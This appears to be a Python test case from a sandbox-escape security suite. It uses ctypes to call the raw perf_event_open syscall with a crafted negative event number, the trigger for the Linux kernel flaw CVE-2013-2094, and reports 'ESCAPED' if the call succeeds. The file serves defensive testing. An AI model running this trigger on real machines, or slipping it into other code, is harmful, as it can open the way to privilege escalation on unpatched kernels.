# expect: error ImportError
# idea: the door is an event number that is negative
# full: security
# source: CVE-2013-2094
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    got = libc.syscall(ctypes.c_long(number), *wide)
    print(f"ESCAPED: {what} gave {got}" if got >= 0 else f"{what}: errno {ctypes.get_errno()}")
    return got
attributes = ctypes.create_string_buffer(b"\x01\x00\x00\x00\x48\x00\x00\x00\xff\xff\xff\xff", 72)
attempt("perf_event_open", 298, attributes, 0, -1, -1, 0)
